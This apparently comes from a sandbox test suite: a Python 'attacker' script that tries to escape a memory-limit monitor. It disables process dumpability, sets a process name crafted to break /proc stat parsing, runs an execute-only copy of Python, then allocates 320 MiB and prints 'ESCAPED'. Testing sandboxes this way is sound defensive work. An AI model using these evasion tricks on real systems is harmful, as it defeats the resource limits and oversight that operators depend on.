import contextlib
import os
import shutil
import subprocess
import sys
import time

from attacker import TMP, syscall

PR_SET_DUMPABLE, PR_SET_NAME = 4, 15
BOMB = "import time; heap = [(b'x' * (8 << 20), time.sleep(0.01)) for _ in range(40)]; print('ESCAPED: 320 MiB')"
with contextlib.suppress(OSError):
    syscall("prctl", PR_SET_DUMPABLE, 0, 0, 0, 0)
syscall("prctl", PR_SET_NAME, b") R 1 1 (", 0, 0, 0)
if os.path.basename(os.path.realpath(sys.executable)).startswith("python"):
    shutil.copy(os.path.realpath(sys.executable), f"{TMP}/unreadable")  # a program that its user cannot read is hidden, too
    os.chmod(f"{TMP}/unreadable", 0o111)
    home = {**os.environ, "PYTHONHOME": sys.base_prefix}
    print(subprocess.run([f"{TMP}/unreadable", "-I", "-c", BOMB], env=home, stdout=subprocess.PIPE).stdout)
heap = []
for _ in range(40):
    heap.append(b"x" * (8 << 20))
    time.sleep(0.01)
print("ESCAPED: 320 MiB")
